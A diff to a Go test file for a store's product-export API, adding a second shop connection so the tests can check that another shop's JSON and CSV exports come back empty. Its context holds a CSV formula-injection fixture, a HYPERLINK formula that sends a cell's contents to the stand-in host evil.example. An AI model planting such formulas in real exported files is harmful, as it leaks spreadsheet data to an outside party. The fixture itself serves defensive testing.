@@ -19,6 +19,7 @@ import (
 
 	"stockroom/catalog"
 	"stockroom/datadir"
+	"stockroom/status"
 )
 
 const formula = `=HYPERLINK("http://evil.example/?"&A1,"click")`
@@ -43,6 +44,7 @@ func TestEveryProductIsExportedWithItsVariants(t *testing.T) {
 	if list := decode[[]productSeen](t, r.admin(200, "GET", "/api/v1/products-export?format=json", "")); len(list) != exportPage+5 {
 		t.Errorf("json holds %d products", len(list))
 	}
+	r.shops.list = append(r.shops.list, status.Connection{Shop: "other.myshopify.com"})
 	if got := r.admin(200, "GET", "/api/v1/products-export?format=json&shop=other.myshopify.com", ""); got != "[]\n" {
 		t.Errorf("another shop's: %q", got)
 	}
@@ -93,6 +95,7 @@ func TestTheCSVHasShopifysColumnsAndALineForEachVariant(t *testing.T) {
 	if got := read("/api/v1/products-export?format=csv&raw=true")[0]["Title"]; got != formula {
 		t.Errorf("raw title %q", got)
 	}
+	r.shops.list = append(r.shops.list, status.Connection{Shop: "other.myshopify.com"})
 	if got := r.admin(200, "GET", "/api/v1/products-export?format=csv&shop=other.myshopify.com", ""); got != strings.Join(csvColumns, ",")+"\n" {
 		t.Errorf("an empty csv: %q", got)
 	}
